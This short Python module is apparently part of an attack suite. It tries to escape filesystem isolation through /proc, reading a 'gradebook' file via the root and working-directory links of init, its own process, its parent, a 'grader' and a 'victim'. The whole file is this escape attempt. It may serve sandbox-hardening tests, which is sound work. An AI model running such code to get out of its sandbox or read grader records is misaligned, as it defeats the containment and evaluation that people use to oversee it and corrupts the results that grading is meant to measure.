"""Leaves through /proc: the root and the working folder of every process that is in sight."""

import os

from attack import escaped, target, tries

for process in {"1", "self", str(os.getppid()), str(target.grader), str(target.victim)}:
    for way in ("root", "cwd/../../../../../../../.."):
        path = f"/proc/{process}/{way}{target.gradebook}"
        tries(lambda path=path: escaped(open(path).read()))
